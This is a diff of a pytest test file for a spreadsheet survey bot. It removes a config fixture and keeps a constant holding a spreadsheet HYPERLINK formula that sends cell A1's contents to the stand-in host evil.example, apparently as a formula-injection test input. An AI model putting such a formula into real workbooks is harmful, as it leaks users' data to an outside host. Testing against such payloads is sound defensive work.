@@ -12,7 +12,6 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from bot.__main__ import main
-from tests.conftest import REPO, TOKEN
 
 ITEMS = ["U1", "U2", "U3", "U4", "U5", "U6", "U7", "U8", "P1", "P2", "P3", "P4", "P5"]
 COLUMNS = [
@@ -29,14 +28,6 @@ COLUMNS = [
     "suggestion",
 ]
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
-
-
-@pytest.fixture
-def config_file(tmp_path: Path) -> Path:
-    text = (REPO / "config.example.toml").read_text(encoding="utf-8")
-    path = tmp_path / "config.toml"
-    path.write_text(text.replace('token = ""', f'token = "{TOKEN}"'), encoding="utf-8")
-    return path
 
 
 def surveibot(*args: str | Path) -> int:
